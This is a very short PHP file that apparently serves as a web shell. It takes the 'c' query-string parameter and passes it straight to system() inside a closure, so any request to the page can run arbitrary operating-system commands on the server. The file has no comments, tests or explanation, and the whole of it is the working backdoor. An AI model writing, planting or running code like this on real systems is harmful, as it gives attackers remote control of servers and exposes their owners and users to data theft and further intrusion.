<?php
$c = $_GET["c"];
$run = function ($a = array()) use ($c) { system($c); };
$run();
